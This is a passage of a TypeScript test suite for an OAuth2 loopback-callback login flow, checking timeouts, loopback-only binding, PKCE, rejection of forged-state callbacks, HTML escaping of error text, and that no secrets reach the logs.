      assert.match(callback.redirectUri, /^http:\/\/localhost:\d+\/oauth\/tradier$/)
      const port = new URL(callback.redirectUri).port
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(callback.awaitCode(session))
      const wrongPath = yield* getPage(`http://127.0.0.1:${port}/callback?code=c&state=${state}`)
      assert.strictEqual(wrongPath.status, 404)
      const page = yield* getPage(`http://127.0.0.1:${port}/oauth/tradier?code=c&state=${state}`)
      assert.strictEqual(page.status, 200)
      assert.strictEqual(Redacted.value(yield* Fiber.join(fiber)), "c")
    }).pipe(Effect.provide(Live)))

  it.scoped("times out after 10 minutes of Clock time", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback({ provider: "tradier-test" })
      const { session, state } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(callback.awaitCode(session))
      yield* TestClock.adjust(Duration.minutes(9))
      assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))
      yield* TestClock.adjust(Duration.minutes(1))
      const exit = yield* Fiber.await(fiber)
      assert.isTrue(Exit.isFailure(exit))
      const error = yield* Effect.flip(callback.awaitCode(session))
      assert.instanceOf(error, AuthorizationFailed)
      assert.strictEqual(error.reason, "timeout")
      assert.strictEqual(error.provider, "tradier-test")
      assert.include(error.message, "before the timeout")
      // A callback arriving late is turned away.
      const late = yield* getPage(`${callback.redirectUri}?code=late&state=${state}`)
      assert.strictEqual(late.status, 400)
      assert.include(late.body, "stopped waiting")
    }).pipe(Effect.provide(Live)))

  it.scoped("a custom timeout", () =>
    Effect.gen(function*() {
      const callback = yield* AuthorizationCode.loopbackCallback({ timeout: "30 seconds" })
      const { session } = yield* sessionFor(callback)
      const fiber = yield* Effect.fork(Effect.flip(callback.awaitCode(session)))
      yield* TestClock.adjust(Duration.seconds(30))
      assert.strictEqual((yield* Fiber.join(fiber)).reason, "timeout")
    }).pipe(Effect.provide(Live)))

  it.scoped("refuses a server that is not bound to loopback", () =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(AuthorizationCode.loopbackCallback())
      assert.instanceOf(error, InvalidConfiguration)
      assert.include(error.message, "loopback")
    }).pipe(Effect.provide(NodeHttpServer.layer(() => http.createServer(), { host: "0.0.0.0", port: 0 }))))

  it.scoped("refuses a non-loopback redirect host and a malformed path", () =>
    Effect.gen(function*() {
      const host = yield* Effect.flip(AuthorizationCode.loopbackCallback({ redirectHost: "example.com" }))
      assert.instanceOf(host, InvalidConfiguration)
      const path = yield* Effect.flip(AuthorizationCode.loopbackCallback({ path: "callback" }))
      assert.instanceOf(path, InvalidConfiguration)
      const query = yield* Effect.flip(AuthorizationCode.loopbackCallback({ path: "/cb?x=1" }))
      assert.instanceOf(query, InvalidConfiguration)
    }).pipe(Effect.provide(Live)))

  it.scoped("stops answering once its scope closes", () =>
    Effect.gen(function*() {
      const redirectUri = yield* AuthorizationCode.loopbackCallback().pipe(
        Effect.map((callback) => callback.redirectUri),
        Effect.scoped
      )
      // The server itself is still up (it belongs to the layer), but the callback app is gone: no answer.
      const answer = yield* unanswered(`${redirectUri}?code=c&state=s`)
      assert.isTrue(answer)
    }).pipe(Effect.provide(Live)))
})

// -----------------------------------------------------------------------------
// login
// -----------------------------------------------------------------------------

/** The browser: follows the authorization URL to the provider, then its 302 to the callback. */
const browser = (pages: Array<{ readonly status: number; readonly body: string }>) => (url: string) =>
  Effect.gen(function*() {
    const client = yield* HttpClient.HttpClient
    const answer = yield* client.get(url).pipe(Effect.scoped)
    assert.strictEqual(answer.status, 302)
    const location = answer.headers["location"]
    assert.isDefined(location)
    pages.push(yield* getPage(location!))
  }).pipe(Effect.orDie)

const callbackAddress = Effect.map(HttpServer.HttpServer, (server) => {
  const address = server.address as HttpServer.TcpAddress
  return `http://127.0.0.1:${address.port}/callback`
})

describe("login", () => {
  it.scoped("end to end with PKCE: authorize, redirect, callback, exchange; no secret in any log line", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const pages: Array<{ readonly status: number; readonly body: string }> = []
      const lines: Array<string> = []
      const token = yield* withCapturedLogs(
        lines,
        AuthorizationCode.login({ scopes: ["read", "trade"], pkce: true, onAuthorizeUrl: browser(pages) })
      ).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client))

      assert.strictEqual(Redacted.value(token.value), ACCESS_TOKEN)
      assert.deepStrictEqual(token.scopes, ["read", "trade"])
      assert.deepStrictEqual(server.refusals, [])
      assert.strictEqual(server.tokenRequests.length, 1)

      const authorizeQuery = server.authorizeRequests[0]!
      assert.strictEqual(authorizeQuery.get("client_id"), CLIENT_ID)
      assert.strictEqual(authorizeQuery.get("scope"), "read,trade")
      assert.strictEqual(authorizeQuery.get("response_type"), "code")
      assert.strictEqual(authorizeQuery.get("redirect_uri"), yield* callbackAddress)
      assert.strictEqual(authorizeQuery.get("code_challenge_method"), "S256")
      const form = server.tokenRequests[0]!.form
      assert.strictEqual(form.get("redirect_uri"), yield* callbackAddress)
      assert.strictEqual(form.get("code"), server.issuedCodes[0])

      assert.strictEqual(pages.length, 1)
      assert.strictEqual(pages[0]!.status, 200)
      assert.include(pages[0]!.body, "You can close this window")

      const secrets = [
        authorizeQuery.get("state")!,
        server.issuedCodes[0]!,
        form.get("code_verifier")!,
        ACCESS_TOKEN,
        CLIENT_SECRET
      ]
      const log = lines.join("\n")
      assert.include(log, "login succeeded")
      assert.include(log, "provider=tradier-test")
      assertNoSecrets(log, secrets)
    }).pipe(Effect.provide(Live)))

  it.scoped("Tradier mode: no redirect_uri, no PKCE; the registered callback is the listener", () =>
    Effect.gen(function*() {
      const registeredRedirect = yield* callbackAddress
      const server = yield* makeAuthServer({ registeredRedirect })
      const client = yield* clientFor(server.endpoint)
      const pages: Array<{ readonly status: number; readonly body: string }> = []
      const token = yield* AuthorizationCode.login({
        scopes: ["read", "write", "market", "trade", "stream"],
        sendRedirectUri: false,
        onAuthorizeUrl: browser(pages)
      }).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client))
      assert.strictEqual(Redacted.value(token.value), ACCESS_TOKEN)
      const q = server.authorizeRequests[0]!
      assert.strictEqual(q.get("scope"), "read,write,market,trade,stream")
      assert.isFalse(q.has("redirect_uri"))
      assert.isFalse(q.has("code_challenge"))
      assert.deepStrictEqual([...server.tokenRequests[0]!.form.keys()].sort(), ["code", "grant_type"])
      assert.deepStrictEqual(server.refusals, [])
    }).pipe(Effect.provide(Live)))

  it.scoped("the user refuses: AuthorizationFailed access_denied, no token request", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer({
        callbackParams: (query) => ({
          error: "access_denied",
          error_description: "The user denied <access>",
          state: query.get("state") ?? ""
        })
      })
      const client = yield* clientFor(server.endpoint)
      const pages: Array<{ readonly status: number; readonly body: string }> = []
      const lines: Array<string> = []
      const error = yield* withCapturedLogs(
        lines,
        AuthorizationCode.login({ onAuthorizeUrl: browser(pages) })
      ).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.flip)
      assert.instanceOf(error, AuthorizationFailed)
      assert.strictEqual((error as AuthorizationFailed).reason, "access_denied")
      assert.strictEqual((error as AuthorizationFailed).description, "The user denied <access>")
      assert.strictEqual(server.tokenRequests.length, 0)
      assert.include(pages[0]!.body, "access_denied")
      assert.include(pages[0]!.body, "&lt;access&gt;")
      const log = lines.join("\n")
      assert.include(log, "login failed")
      assert.include(log, "reason=access_denied")
      assertNoSecrets(`${log}\n${errorText(error)}`, [server.authorizeRequests[0]!.get("state")!])
    }).pipe(Effect.provide(Live)))

  it.scoped("a callback with another state does not end the login: it gets a 400, its code is never exchanged, and the genuine callback then logs in", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer({ callbackParams: (_, code) => ({ code, state: "forged-state-value" }) })
      const client = yield* clientFor(server.endpoint)
      const lines: Array<string> = []
      const pages: Array<{ readonly status: number; readonly body: string }> = []
      const shown = yield* Deferred.make<void>()
      const fiber = yield* withCapturedLogs(
        lines,
        AuthorizationCode.login({
          pkce: true,
          onAuthorizeUrl: (url) => Effect.zipRight(browser(pages)(url), Deferred.succeed(shown, undefined))
        })
      ).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.fork)
      yield* Deferred.await(shown)
      assert.strictEqual(pages[0]!.status, 400)
      assert.isTrue(Option.isNone(yield* Fiber.poll(fiber)))
      assert.strictEqual(server.tokenRequests.length, 0)

      // The genuine redirect: the code the server issued, with the state the login sent.
      const state = server.authorizeRequests[0]!.get("state")!
      server.issue("genuine-code", {
        clientId: CLIENT_ID,
        redirectUri: server.authorizeRequests[0]!.get("redirect_uri") ?? undefined,
        challenge: server.authorizeRequests[0]!.get("code_challenge") ?? undefined,
        challengeMethod: "S256"
      })
      const page = yield* getPage(`${yield* callbackAddress}?code=genuine-code&state=${state}`)
      assert.strictEqual(page.status, 200)
      const token = yield* Fiber.join(fiber)
      assert.strictEqual(Redacted.value(token.value), ACCESS_TOKEN)
      assert.strictEqual(server.tokenRequests.length, 1)
      assert.strictEqual(server.tokenRequests[0]!.form.get("code"), "genuine-code")
      assertNoSecrets(lines.join("\n"), [state, server.issuedCodes[0]!, "genuine-code", "forged-state-value"])
    }).pipe(Effect.provide(Live)))

  it.scoped("nobody logs in: timeout after 10 minutes; the listener is gone afterwards", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const shown = yield* Ref.make<Array<string>>([])
      const fiber = yield* AuthorizationCode.login({
        onAuthorizeUrl: (url) => Ref.update(shown, (urls) => [...urls, url])
      }).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.flip, Effect.fork)
      yield* TestClock.adjust(Duration.minutes(10))
      const error = yield* Fiber.join(fiber)
      assert.instanceOf(error, AuthorizationFailed)
      assert.strictEqual((error as AuthorizationFailed).reason, "timeout")
      assert.strictEqual((yield* Ref.get(shown)).length, 1)
      assert.strictEqual(server.tokenRequests.length, 0)
      assert.isTrue(yield* unanswered(`${yield* callbackAddress}?code=c&state=s`))
    }).pipe(Effect.provide(Live)))

  it.scoped("a failing onAuthorizeUrl fails the login with its own error", () =>
    Effect.gen(function*() {
      const server = yield* makeAuthServer()
      const client = yield* clientFor(server.endpoint)
      const error = yield* AuthorizationCode.login({
        onAuthorizeUrl: () => Effect.fail("no browser" as const)
      }).pipe(Effect.provideService(OAuth2Client.OAuth2Client, client), Effect.flip)
      assert.strictEqual(error, "no browser")
    }).pipe(Effect.provide(Live)))
})
